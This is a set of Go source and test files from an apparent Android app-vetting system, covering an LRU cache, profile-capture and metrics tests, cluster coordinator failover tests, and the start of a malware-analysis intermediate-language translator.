	order *list.List // front = most recent; values are *lruEntry
	items map[string]*list.Element
}

type lruEntry struct {
	digest string
	data   json.RawMessage
}

func newLRU(capacity int) *lruCache {
	return &lruCache{
		cap:   capacity,
		order: list.New(),
		items: make(map[string]*list.Element, capacity),
	}
}

func (c *lruCache) get(digest string) (json.RawMessage, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	el, ok := c.items[digest]
	if !ok {
		return nil, false
	}
	c.order.MoveToFront(el)
	return el.Value.(*lruEntry).data, true
}

func (c *lruCache) put(digest string, data json.RawMessage) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if el, ok := c.items[digest]; ok {
		el.Value.(*lruEntry).data = data
		c.order.MoveToFront(el)
		return
	}
	c.items[digest] = c.order.PushFront(&lruEntry{digest: digest, data: data})
	if c.order.Len() > c.cap {
		oldest := c.order.Back()
		c.order.Remove(oldest)
		delete(c.items, oldest.Value.(*lruEntry).digest)
	}
}

func (c *lruCache) remove(digest string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if el, ok := c.items[digest]; ok {
		c.order.Remove(el)
		delete(c.items, digest)
	}
}

func (c *lruCache) len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.order.Len()
}
