package service

import (
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/events"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/profile"
	"github.com/dydroid/dydroid/internal/trace"
)

// newProfiledServer builds a stub server with a live profile recorder
// (short real CPU windows) sharing the server's journal and registry.
func newProfiledServer(t *testing.T, cfg Config) (*Server, *httptest.Server, *profile.Recorder) {
	t.Helper()
	if cfg.Metrics == nil {
		cfg.Metrics = metrics.New()
	}
	if cfg.Journal == nil {
		cfg.Journal = events.NewJournal(0)
	}
	rec := profile.New(profile.Options{
		Node:      cfg.Node,
		WindowDur: 20 * time.Millisecond,
		Cooldown:  time.Minute,
		Journal:   cfg.Journal,
		Metrics:   cfg.Metrics,
	})
	cfg.Profiles = rec
	s, ts := newStubServer(t, cfg, nil)
	return s, ts, rec
}

// waitWindows polls until the recorder holds at least n windows.
func waitWindows(t *testing.T, rec *profile.Recorder, n int) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		if rec.Len() >= n {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("recorder never reached %d windows (have %d)", n, rec.Len())
}

// TestWatchdogTriggersProfileCapture is the alert-capture acceptance
// path: an analysis blowing past the slow deadline (injectable clock, so
// no real waiting) automatically captures a profile window tagged with
// the offending digest, journals a profile-captured event, and the
// window is downloadable from /v1/profiles/{id} — including the raw
// pprof bytes, which must parse.
func TestWatchdogTriggersProfileCapture(t *testing.T) {
	s, ts, rec := newProfiledServer(t, Config{
		Workers:      1,
		SlowDeadline: time.Hour,
		Node:         "w1",
	})

	// Fake clock: two hours elapse between arm and disarm while the real
	// timer never fires, so the disarm path decides slowness.
	base := time.Date(2026, 8, 7, 9, 0, 0, 0, time.UTC)
	var calls atomic.Int64
	s.now = func() time.Time {
		if calls.Add(1) == 1 {
			return base
		}
		return base.Add(2 * time.Hour)
	}

	tr := trace.New("scan", trace.WithDigest("feedface"))
	disarm := s.armWatchdog("feedface")
	tr.Root.End()
	disarm(tr)

	waitWindows(t, rec, 1)
	metas := rec.Index()
	if metas[0].Trigger != profile.TriggerWatchdog || metas[0].Digest != "feedface" {
		t.Fatalf("captured window meta = %+v, want watchdog/feedface", metas[0])
	}
	if metas[0].TraceID != TraceID("feedface") {
		t.Fatalf("window trace ID = %q, want %q", metas[0].TraceID, TraceID("feedface"))
	}

	evs := fetchEvents(t, ts.URL)
	var captured *events.Event
	for i, e := range evs {
		if e.Type == events.ProfileCaptured {
			captured = &evs[i]
		}
	}
	if captured == nil {
		t.Fatalf("no profile-captured journal event: %+v", evs)
	}
	if captured.Digest != "feedface" || !strings.Contains(captured.Detail, metas[0].ID) {
		t.Fatalf("profile-captured event = %+v, want digest feedface and window %s", captured, metas[0].ID)
	}

	// The index endpoint lists it; the window endpoint serves the full
	// form; ?format=pprof serves raw bytes that parse as a CPU profile.
	resp, err := http.Get(ts.URL + "/v1/profiles")
	if err != nil {
		t.Fatal(err)
	}
	var idx []profile.Meta
	if err := json.NewDecoder(resp.Body).Decode(&idx); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if len(idx) != 1 || idx[0].ID != metas[0].ID {
		t.Fatalf("/v1/profiles = %+v", idx)
	}

	resp, err = http.Get(ts.URL + "/v1/profiles/" + idx[0].ID)
	if err != nil {
		t.Fatal(err)
	}
	var win profile.Window
	if err := json.NewDecoder(resp.Body).Decode(&win); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if win.Trigger != profile.TriggerWatchdog || win.Digest != "feedface" || len(win.Pprof) == 0 {
		t.Fatalf("window = trigger=%q digest=%q pprof=%d bytes", win.Trigger, win.Digest, len(win.Pprof))
	}

	resp, err = http.Get(ts.URL + "/v1/profiles/" + idx[0].ID + "?format=pprof")
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if ct := resp.Header.Get("Content-Type"); ct != "application/octet-stream" {
		t.Fatalf("pprof content-type = %q", ct)
	}
	if _, err := profile.ParseCPUProfile(raw, 5); err != nil {
		t.Fatalf("served pprof bytes do not parse: %v", err)
	}

	if resp, _ := http.Get(ts.URL + "/v1/profiles/nosuch"); resp.StatusCode != http.StatusNotFound {
		t.Fatalf("unknown window = %d, want 404", resp.StatusCode)
	}
}

// TestSLOBurnTriggersProfileCapture: enough failed analyses to blow the
// availability fast-burn threshold make the post-analysis check capture
// a window whose trigger names the burning objective.
func TestSLOBurnTriggersProfileCapture(t *testing.T) {
	s, _, rec := newProfiledServer(t, Config{Workers: 1, Node: "w1"})

	for i := 0; i < 5; i++ {
		tr := trace.New("scan", trace.WithDigest("feedface"))
		tr.Root.End()
		s.cfg.Fleet.ObserveError("com.burn.app", errors.New("synthetic failure"), tr)
	}
	s.sloTriggers("feedface")

	waitWindows(t, rec, 1)
	meta := rec.Index()[0]
	if meta.Trigger != profile.TriggerSLOPrefix+"scan-availability" {
		t.Fatalf("trigger = %q, want slo:scan-availability", meta.Trigger)
	}
	if meta.Digest != "feedface" {
		t.Fatalf("digest = %q, want the analysis that tipped the burn", meta.Digest)
	}

	// The cooldown suppresses an immediate second capture for the same
	// objective.
	if s.sloTriggers("feedface"); rec.Len() != 1 {
		// A second window may still be in flight only if TryTrigger
		// started one — assert via the suppression counter instead.
		t.Fatalf("cooldown did not suppress the repeat trigger")
	}
}

// TestMetriczServesStageCostGauges: per-stage attribution reaches the
// Prometheus exposition as dydroid_stage_cost_* gauges.
func TestMetriczServesStageCostGauges(t *testing.T) {
	_, ts := newStubServer(t, Config{Workers: 1}, nil)
	s, _ := http.Get(ts.URL + "/v1/metricz?format=prom")
	body, _ := io.ReadAll(s.Body)
	s.Body.Close()
	if strings.Contains(string(body), "dydroid_stage_cost_") {
		t.Fatal("cost gauges rendered with no metered spans")
	}

	srv, ts2 := newStubServer(t, Config{Workers: 1}, nil)
	tr := trace.New("scan", trace.WithDigest("beef"))
	sp := tr.Root.StartChild("dynamic")
	sp.SetIntAttr(profile.AttrCPUNS, 1500000000) // 1.5s
	sp.SetIntAttr(profile.AttrAllocBytes, 4096)
	sp.SetIntAttr(profile.AttrAllocObjects, 16)
	sp.End()
	tr.Root.End()
	srv.cfg.Fleet.ObserveApp(&core.AppResult{Package: "com.cost.app"}, tr)

	resp, _ := http.Get(ts2.URL + "/v1/metricz?format=prom")
	body, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	for _, want := range []string{
		`dydroid_stage_cost_spans{stage="dynamic"} 1`,
		`dydroid_stage_cost_cpu_seconds{stage="dynamic"} 1.5`,
		`dydroid_stage_cost_alloc_bytes{stage="dynamic"} 4096`,
		`dydroid_stage_cost_alloc_objects{stage="dynamic"} 16`,
	} {
		if !strings.Contains(string(body), want) {
			t.Fatalf("prom exposition missing %q:\n%s", want, body)
		}
	}
}

// TestDashboardRefreshValidation: ?refresh must be a non-negative
// integer — junk and negatives are a 400, not a silent default.
func TestDashboardRefreshValidation(t *testing.T) {
	_, ts := newStubServer(t, Config{Workers: 1}, nil)
	for _, tc := range []struct {
		q    string
		want int
	}{
		{"", http.StatusOK},
		{"?refresh=5", http.StatusOK},
		{"?refresh=0", http.StatusOK},
		{"?refresh=-1", http.StatusBadRequest},
		{"?refresh=abc", http.StatusBadRequest},
		{"?refresh=2.5", http.StatusBadRequest},
	} {
		resp, err := http.Get(ts.URL + "/v1/dashboard" + tc.q)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != tc.want {
			t.Fatalf("dashboard%s = %d, want %d (%s)", tc.q, resp.StatusCode, tc.want, body)
		}
		if tc.q == "?refresh=5" && !strings.Contains(string(body), `content="5"`) {
			t.Fatalf("refresh=5 not templated:\n%.300s", body)
		}
	}
}
