package cluster

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/events"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/telemetry"
)

// tinyAPK builds a minimal distinct archive per package name.
func tinyAPK(t *testing.T, pkg string) []byte {
	t.Helper()
	b := dex.NewBuilder()
	b.Class(pkg+".Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	data, err := apk.Build(&apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex: dexBytes,
	})
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// stubNode fakes one worker daemon: scans are "analyzed" instantly and
// the vetting API surface the coordinator touches is served.
type stubNode struct {
	ts *httptest.Server

	mu          sync.Mutex
	scans       map[string]int // digest -> times scanned
	results     map[string][]byte
	fleet       *telemetry.Snapshot
	journal     []events.Event
	degraded    bool
	failHealthz bool
}

func newStubNode(t *testing.T) *stubNode {
	t.Helper()
	n := &stubNode{
		scans:   make(map[string]int),
		results: make(map[string][]byte),
		fleet:   telemetry.NewSnapshot(0, 0, 0),
	}
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/scan", func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		digest, err := apk.SigningDigest(body)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		rec := []byte(fmt.Sprintf(`{"digest":%q,"status":"exercised","node":%q}`, digest, n.name()))
		n.mu.Lock()
		n.scans[digest]++
		n.results[digest] = rec
		n.mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		w.Write(rec)
	})
	mux.HandleFunc("GET /v1/result/{digest}", func(w http.ResponseWriter, r *http.Request) {
		n.mu.Lock()
		rec, ok := n.results[r.PathValue("digest")]
		n.mu.Unlock()
		if !ok {
			http.Error(w, `{"error":"unknown digest"}`, http.StatusNotFound)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		w.Write(rec)
	})
	mux.HandleFunc("GET /v1/healthz", func(w http.ResponseWriter, r *http.Request) {
		n.mu.Lock()
		fail, degraded := n.failHealthz, n.degraded
		n.mu.Unlock()
		if fail {
			http.Error(w, `{"error":"injected probe failure"}`, http.StatusServiceUnavailable)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{
			"status": "ok", "degraded": degraded,
			"queue_len": 0, "queue_depth": 64, "inflight": 0,
		})
	})
	mux.HandleFunc("GET /v1/fleet", func(w http.ResponseWriter, r *http.Request) {
		n.mu.Lock()
		defer n.mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(n.fleet)
	})
	mux.HandleFunc("GET /v1/events", func(w http.ResponseWriter, r *http.Request) {
		n.mu.Lock()
		evs := append([]events.Event(nil), n.journal...)
		n.mu.Unlock()
		w.Header().Set("Content-Type", "application/x-ndjson")
		events.EncodeJSONL(w, evs)
	})
	mux.HandleFunc("GET /v1/version", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{"snapshot_version": telemetry.SnapshotVersion})
	})
	n.ts = httptest.NewServer(mux)
	t.Cleanup(n.ts.Close)
	return n
}

func (n *stubNode) name() string { return n.ts.URL }

func (n *stubNode) scanned(digest string) int {
	n.mu.Lock()
	defer n.mu.Unlock()
	return n.scans[digest]
}

func (n *stubNode) setDegraded(v bool) {
	n.mu.Lock()
	n.degraded = v
	n.mu.Unlock()
}

func (n *stubNode) setFailHealthz(v bool) {
	n.mu.Lock()
	n.failHealthz = v
	n.mu.Unlock()
}

// newTestCoordinator assembles a coordinator over the stubs plus its own
// test server.
func newTestCoordinator(t *testing.T, cfg Config, nodes ...*stubNode) (*Coordinator, *httptest.Server, *metrics.Registry) {
	t.Helper()
	for _, n := range nodes {
		cfg.Nodes = append(cfg.Nodes, n.name())
	}
	reg := metrics.New()
	cfg.Metrics = reg
	c, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(c.Close)
	ts := httptest.NewServer(c.Handler())
	t.Cleanup(ts.Close)
	return c, ts, reg
}

// expectedRing rebuilds the placement ring the coordinator uses, so
// tests can compute which stub owns a digest.
func expectedRing(nodes ...*stubNode) *Ring {
	r := NewRing(0)
	for _, n := range nodes {
		r.Add(n.name())
	}
	return r
}

func postScanC(t *testing.T, base string, body []byte) *http.Response {
	t.Helper()
	resp, err := http.Post(base+"/v1/scan", "application/octet-stream", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { resp.Body.Close() })
	return resp
}

// TestScanRoutesByDigest: with every node healthy, a scan lands on the
// ring owner of its signing digest, exactly once per node, and the
// result proxy serves it back from that node.
func TestScanRoutesByDigest(t *testing.T) {
	a, b, c := newStubNode(t), newStubNode(t), newStubNode(t)
	_, ts, _ := newTestCoordinator(t, Config{ProbeInterval: time.Hour}, a, b, c)
	ring := expectedRing(a, b, c)
	byName := map[string]*stubNode{a.name(): a, b.name(): b, c.name(): c}

	for i := 0; i < 24; i++ {
		data := tinyAPK(t, fmt.Sprintf("com.route.app%d", i))
		digest, err := apk.SigningDigest(data)
		if err != nil {
			t.Fatal(err)
		}
		owner := ring.Owner(digest)
		resp := postScanC(t, ts.URL, data)
		body, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("scan %d: %d %s", i, resp.StatusCode, body)
		}
		if got := resp.Header.Get("X-Dydroid-Node"); got != owner {
			t.Fatalf("scan %d served by %s, ring owner is %s", i, got, owner)
		}
		if got := byName[owner].scanned(digest); got != 1 {
			t.Fatalf("owner scan count = %d, want 1", got)
		}
		for name, n := range byName {
			if name != owner && n.scanned(digest) != 0 {
				t.Fatalf("non-owner %s also scanned %s", name, digest)
			}
		}

		rr, err := http.Get(ts.URL + "/v1/result/" + digest)
		if err != nil {
			t.Fatal(err)
		}
		rbody, _ := io.ReadAll(rr.Body)
		rr.Body.Close()
		if rr.StatusCode != http.StatusOK || !bytes.Equal(rbody, body) {
			t.Fatalf("result proxy: %d %s, want scan body %s", rr.StatusCode, rbody, body)
		}
		if got := rr.Header.Get("X-Dydroid-Node"); got != owner {
			t.Fatalf("result served by %s, want owner %s", got, owner)
		}
	}

	// An unknown digest 404s after probing the candidate window.
	rr, err := http.Get(ts.URL + "/v1/result/feedfacefeedface")
	if err != nil {
		t.Fatal(err)
	}
	rr.Body.Close()
	if rr.StatusCode != http.StatusNotFound {
		t.Fatalf("unknown digest: %d", rr.StatusCode)
	}
}

// TestScanFailoverEjectsDeadNode: a dead node's scans fail over to the
// next ring position at request level, and K consecutive forward
// failures eject it — no scan is lost.
func TestScanFailoverEjectsDeadNode(t *testing.T) {
	a, b, c := newStubNode(t), newStubNode(t), newStubNode(t)
	coord, ts, reg := newTestCoordinator(t,
		Config{ProbeInterval: time.Hour, ProbeFailures: 2, MaxAttempts: 3}, a, b, c)
	ring := expectedRing(a, b, c)

	// Kill a. Every scan must still land somewhere live.
	a.ts.Close()
	deadOwned := 0
	for i := 0; i < 40; i++ {
		data := tinyAPK(t, fmt.Sprintf("com.failover.app%d", i))
		digest, err := apk.SigningDigest(data)
		if err != nil {
			t.Fatal(err)
		}
		if ring.Owner(digest) == a.name() {
			deadOwned++
		}
		resp := postScanC(t, ts.URL, data)
		body, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("scan %d lost: %d %s", i, resp.StatusCode, body)
		}
		if got := resp.Header.Get("X-Dydroid-Node"); got == a.name() {
			t.Fatalf("scan %d served by the dead node", i)
		}

		// The verdict is readable back through the coordinator even though
		// placement moved off the original owner.
		rr, err := http.Get(ts.URL + "/v1/result/" + digest)
		if err != nil {
			t.Fatal(err)
		}
		rr.Body.Close()
		if rr.StatusCode != http.StatusOK {
			t.Fatalf("result %d after failover: %d", i, rr.StatusCode)
		}
	}
	if deadOwned < 2 {
		t.Fatalf("only %d sampled digests owned by the dead node; test is vacuous", deadOwned)
	}

	st := coord.Status()
	var dead *NodeStatus
	for i := range st.Members {
		if st.Members[i].Node == a.name() {
			dead = &st.Members[i]
		}
	}
	if dead == nil || dead.Healthy {
		t.Fatalf("dead node still healthy in status: %+v", st)
	}
	if dead.RingShare != 0 {
		t.Fatalf("ejected node keeps ring share %.3f", dead.RingShare)
	}
	if st.NodesLive != 2 {
		t.Fatalf("nodes_live = %d, want 2", st.NodesLive)
	}
	if got := reg.Counter("cluster.ejected"); got != 1 {
		t.Fatalf("cluster.ejected = %d, want 1", got)
	}
	// Scan and read forwards both count toward K, so at least one scan
	// failed over before the node left the ring.
	if got := reg.Counter("cluster.scan.failover"); got < 1 {
		t.Fatalf("cluster.scan.failover = %d, want >= 1", got)
	}
	if got := reg.Counter("cluster.scan.unroutable"); got != 0 {
		t.Fatalf("cluster.scan.unroutable = %d — scans were lost", got)
	}
}

// waitFor polls cond until it holds or the deadline passes.
func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("timed out waiting for %s", what)
}

func nodeStatus(c *Coordinator, name string) NodeStatus {
	for _, m := range c.Status().Members {
		if m.Node == name {
			return m
		}
	}
	return NodeStatus{}
}

// TestProberEjectsAndRejoins drives the probe lifecycle: K failed probes
// eject a node, the next healthy probe rejoins it and placement follows.
func TestProberEjectsAndRejoins(t *testing.T) {
	a, b := newStubNode(t), newStubNode(t)
	coord, ts, reg := newTestCoordinator(t,
		Config{ProbeInterval: 10 * time.Millisecond, ProbeFailures: 2, MaxAttempts: 2}, a, b)
	ring := expectedRing(a, b)

	// First probe cycle learns the snapshot version.
	waitFor(t, "initial probes", func() bool {
		return nodeStatus(coord, b.name()).SnapshotVersion == telemetry.SnapshotVersion
	})

	b.setFailHealthz(true)
	waitFor(t, "ejection", func() bool { return !nodeStatus(coord, b.name()).Healthy })

	// A digest owned by b routes to a while b is out.
	var data []byte
	for i := 0; ; i++ {
		data = tinyAPK(t, fmt.Sprintf("com.rejoin.app%d", i))
		digest, err := apk.SigningDigest(data)
		if err != nil {
			t.Fatal(err)
		}
		if ring.Owner(digest) == b.name() {
			break
		}
	}
	resp := postScanC(t, ts.URL, data)
	io.Copy(io.Discard, resp.Body)
	if resp.StatusCode != http.StatusOK || resp.Header.Get("X-Dydroid-Node") != a.name() {
		t.Fatalf("scan during ejection: %d via %s, want 200 via %s",
			resp.StatusCode, resp.Header.Get("X-Dydroid-Node"), a.name())
	}

	b.setFailHealthz(false)
	waitFor(t, "rejoin", func() bool { return nodeStatus(coord, b.name()).Healthy })
	if got := reg.Counter("cluster.rejoined"); got < 1 {
		t.Fatalf("cluster.rejoined = %d", got)
	}
	if got := reg.Counter("cluster.ejected"); got < 1 {
		t.Fatalf("cluster.ejected = %d", got)
	}
	// Placement returns to the recovered owner.
	resp = postScanC(t, ts.URL, data)
	io.Copy(io.Discard, resp.Body)
	if got := resp.Header.Get("X-Dydroid-Node"); got != b.name() {
		t.Fatalf("post-rejoin scan served by %s, want %s", got, b.name())
	}
}

// TestDegradedNodeDeprioritized: a node reporting queue saturation keeps
// serving but stops being first choice for new scans.
func TestDegradedNodeDeprioritized(t *testing.T) {
	a, b := newStubNode(t), newStubNode(t)
	b.setDegraded(true)
	coord, ts, _ := newTestCoordinator(t,
		Config{ProbeInterval: 10 * time.Millisecond, ProbeFailures: 3, MaxAttempts: 2}, a, b)
	ring := expectedRing(a, b)

	waitFor(t, "degraded probe", func() bool { return nodeStatus(coord, b.name()).Degraded })

	// A digest owned by the degraded node is redirected to the fit one.
	var data []byte
	for i := 0; ; i++ {
		data = tinyAPK(t, fmt.Sprintf("com.degraded.app%d", i))
		digest, err := apk.SigningDigest(data)
		if err != nil {
			t.Fatal(err)
		}
		if ring.Owner(digest) == b.name() {
			break
		}
	}
	resp := postScanC(t, ts.URL, data)
	io.Copy(io.Discard, resp.Body)
	if got := resp.Header.Get("X-Dydroid-Node"); got != a.name() {
		t.Fatalf("degraded-owned scan served by %s, want fit node %s", got, a.name())
	}
	// The degraded node is still healthy — in the ring, just last choice.
	if st := nodeStatus(coord, b.name()); !st.Healthy {
		t.Fatalf("degraded node was ejected: %+v", st)
	}
}

// TestCoordinatorHealthzAndStatusRender covers the coordinator's own
// liveness view and the shared status table renderer.
func TestCoordinatorHealthzAndStatusRender(t *testing.T) {
	a, b := newStubNode(t), newStubNode(t)
	coord, ts, _ := newTestCoordinator(t, Config{ProbeInterval: time.Hour}, a, b)

	resp, err := http.Get(ts.URL + "/v1/healthz")
	if err != nil {
		t.Fatal(err)
	}
	var h map[string]any
	if err := json.NewDecoder(resp.Body).Decode(&h); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if h["role"] != "coordinator" || h["status"] != "ok" || h["nodes"] != float64(2) {
		t.Fatalf("coordinator healthz = %v", h)
	}

	resp, err = http.Get(ts.URL + "/v1/cluster/status")
	if err != nil {
		t.Fatal(err)
	}
	var st StatusResponse
	if err := json.NewDecoder(resp.Body).Decode(&st); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if st.Nodes != 2 || st.NodesLive != 2 || len(st.Members) != 2 {
		t.Fatalf("status = %+v", st)
	}
	var share float64
	for _, m := range st.Members {
		share += m.RingShare
	}
	if share < 0.999 || share > 1.001 {
		t.Fatalf("ring shares sum to %.4f", share)
	}

	var buf strings.Builder
	RenderStatus(&buf, coord.Status())
	out := buf.String()
	for _, want := range []string{a.name(), b.name(), "Cluster nodes", "2/2 nodes live"} {
		if !strings.Contains(out, want) {
			t.Fatalf("rendered status missing %q:\n%s", want, out)
		}
	}
}

func TestNewRequiresNodes(t *testing.T) {
	if _, err := New(Config{}); err == nil {
		t.Fatal("New accepted an empty node list")
	}
	if _, err := New(Config{Nodes: []string{" ", ""}}); err == nil {
		t.Fatal("New accepted a blank node list")
	}
	if _, err := New(Config{Nodes: []string{"x:1", "x:1"}}); err == nil {
		t.Fatal("New accepted a duplicate node")
	}
}
