package main

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestGenstoreWritesStore(t *testing.T) {
	dir := t.TempDir()
	if err := run(dir, 0.001, 7); err != nil {
		t.Fatalf("run: %v", err)
	}
	f, err := os.Open(filepath.Join(dir, "metadata.csv"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) < 10 {
		t.Fatalf("metadata rows = %d", len(rows))
	}
	if strings.Join(rows[0], ",") !=
		"package,category,downloads,num_ratings,avg_rating,release_date,archetype" {
		t.Fatalf("header = %v", rows[0])
	}
	apks, err := filepath.Glob(filepath.Join(dir, "apks", "*.apk"))
	if err != nil {
		t.Fatal(err)
	}
	if len(apks) != len(rows)-1 {
		t.Fatalf("apk files = %d, metadata rows = %d", len(apks), len(rows)-1)
	}
	// Every written archive must be non-empty.
	for _, p := range apks[:min(5, len(apks))] {
		st, err := os.Stat(p)
		if err != nil || st.Size() == 0 {
			t.Fatalf("bad apk %s: %v", p, err)
		}
	}
}
