// Package mail implements the Malware Analysis Intermediate Language
// (MAIL) of Alam et al. — the platform-independent representation
// DroidNative lifts binaries into before matching. Translators exist for
// both binary worlds of this system: SDEX bytecode (FromDex) and SELF
// ARM-flavoured native code (FromNative), mirroring DroidNative's ability
// to analyze "both bytecode and native code binaries" (paper §III-C).
//
// A MAIL Program is a set of functions; each function is a control-flow
// graph whose blocks carry the sequence of MAIL statement patterns — the
// annotation that turns a CFG into DroidNative's ACFG.
package mail

import (
	"sort"
	"strings"

	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/nativebin"
)

// Pattern is one MAIL statement pattern.
type Pattern byte

// The MAIL statement patterns.
const (
	// PatAssign covers data movement and arithmetic.
	PatAssign Pattern = 'A'
	// PatControl is a conditional transfer.
	PatControl Pattern = 'C'
	// PatCall is an intra-program function call.
	PatCall Pattern = 'F'
	// PatLib is a library/API/system call.
	PatLib Pattern = 'L'
	// PatJump is an unconditional transfer.
	PatJump Pattern = 'J'
	// PatTest sets condition flags from a comparison.
	PatTest Pattern = 'T'
	// PatStack is a stack push/pop.
	PatStack Pattern = 'S'
	// PatHalt ends execution of the function (return/throw).
	PatHalt Pattern = 'H'
	// PatUnknown covers anything unclassified.
	PatUnknown Pattern = 'U'
)

// Stmt is one MAIL statement.
type Stmt struct {
	Pattern Pattern
	// Detail carries auxiliary text (call target, syscall number) for
	// reporting; matching uses only the pattern.
	Detail string
}

// Block is one annotated basic block.
type Block struct {
	Index int
	Stmts []Stmt
	Succs []int
}

// Sig returns the block's pattern signature, e.g. "AALC".
func (b *Block) Sig() string {
	var sb strings.Builder
	for _, s := range b.Stmts {
		sb.WriteByte(byte(s.Pattern))
	}
	return sb.String()
}

// Function is one translated function with its CFG.
type Function struct {
	Name   string
	Blocks []*Block
}

// Program is one translated binary.
type Program struct {
	// Source labels the binary kind: "dex" or the native arch.
	Source    string
	Functions []*Function
}

// TotalBlocks counts blocks across all functions.
func (p *Program) TotalBlocks() int {
	n := 0
	for _, f := range p.Functions {
		n += len(f.Blocks)
	}
	return n
}

// FromDex lifts SDEX bytecode into MAIL.
func FromDex(df *dex.File) *Program {
	p := &Program{Source: "dex"}
	for _, c := range df.Classes {
		for _, m := range c.Methods {
			if len(m.Code) == 0 {
				continue
			}
			fn := &Function{Name: c.Name + "." + m.Name}
			g := dex.BuildCFG(m)
			for _, bb := range g.Blocks {
				blk := &Block{Index: bb.Index, Succs: append([]int(nil), bb.Succs...)}
				for _, in := range bb.Instructions(m) {
					if st, ok := liftDexInstr(in); ok {
						blk.Stmts = append(blk.Stmts, st)
					}
				}
				fn.Blocks = append(fn.Blocks, blk)
			}
			p.Functions = append(p.Functions, fn)
		}
	}
	return p
}

func liftDexInstr(in dex.Instruction) (Stmt, bool) {
	switch in.Op {
	case dex.OpNop:
		return Stmt{}, false
	case dex.OpConst, dex.OpConstString, dex.OpMove, dex.OpMoveResult,
		dex.OpNewInstance, dex.OpNewArray, dex.OpIGet, dex.OpIPut,
		dex.OpSGet, dex.OpSPut, dex.OpAdd, dex.OpSub, dex.OpMul,
		dex.OpDiv, dex.OpXor, dex.OpArrayGet, dex.OpArrayPut,
		dex.OpArrayLength, dex.OpCheckCast, dex.OpInstanceOf:
		return Stmt{Pattern: PatAssign}, true
	case dex.OpIfEq, dex.OpIfNe, dex.OpIfLt, dex.OpIfGe, dex.OpIfEqz, dex.OpIfNez:
		return Stmt{Pattern: PatControl}, true
	case dex.OpGoto:
		return Stmt{Pattern: PatJump}, true
	case dex.OpReturn, dex.OpReturnVoid, dex.OpThrow:
		return Stmt{Pattern: PatHalt}, true
	default:
		if in.Op.IsInvoke() {
			if isFrameworkRef(in.Method.Class) {
				return Stmt{Pattern: PatLib, Detail: in.Method.Class + "." + in.Method.Name}, true
			}
			return Stmt{Pattern: PatCall, Detail: in.Method.Class + "." + in.Method.Name}, true
		}
		return Stmt{Pattern: PatUnknown}, true
	}
}

func isFrameworkRef(class string) bool {
	for _, p := range []string{"java.", "javax.", "android.", "dalvik.", "org.apache."} {
		if strings.HasPrefix(class, p) {
			return true
		}
	}
	return false
}

// FromNative lifts a SELF library into MAIL. Functions are delimited by
// symbol entries; each extends to the next symbol (or the end of code).
func FromNative(lib *nativebin.Library) *Program {
	p := &Program{Source: "native-" + lib.Arch}
	if len(lib.Code) == 0 {
		return p
	}
	// Determine function extents from symbol entries.
	type extent struct {
		name       string
		start, end int
	}
	syms := append([]nativebin.Symbol(nil), lib.Symbols...)
	sort.Slice(syms, func(i, j int) bool { return syms[i].Entry < syms[j].Entry })
	var extents []extent
	if len(syms) == 0 || syms[0].Entry > 0 {
		extents = append(extents, extent{name: "_start", start: 0, end: len(lib.Code)})
	}
	for i, s := range syms {
		end := len(lib.Code)
